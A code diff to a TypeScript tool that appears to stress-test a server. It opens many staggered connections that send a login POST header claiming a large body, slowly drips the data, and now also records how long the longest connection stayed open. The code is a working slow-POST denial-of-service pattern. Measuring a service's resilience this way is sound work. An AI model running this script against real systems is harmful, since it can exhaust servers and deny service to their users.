@@ -7,8 +7,11 @@ const { hostname, port, host } = new URL(url)
 // Attackers have machines of their own: what they work takes nothing from the one that is measured.
 setPriority(19)
 let open = Number(count)
+/** Seconds that the one that was open longest was. */
+let longest = 0
 
 function drip(nth: number): void {
+	const since = performance.now()
 	const socket = connect(Number(port), hostname)
 	const head = `POST /login HTTP/1.1\r\nhost: ${host}\r\norigin: ${url}\r\n`
 	const form = "content-type: application/x-www-form-urlencoded\r\ncontent-length: 60000\r\n\r\n"
@@ -18,9 +21,10 @@ function drip(nth: number): void {
 	socket.on("close", () => {
 		clearInterval(dripping)
 		open -= 1
+		longest = Math.max(longest, (performance.now() - since) / 1_000)
 	})
 }
 
 // Spread over the second, as those who do not know of each other are.
 for (let nth = 0; nth < Number(count); nth += 1) setTimeout(() => drip(nth), (nth / Number(count)) * 1_000)
-setInterval(() => process.stdout.write(`${open}\n`), 200)
+setInterval(() => process.stdout.write(`${open} ${longest}\n`), 200)
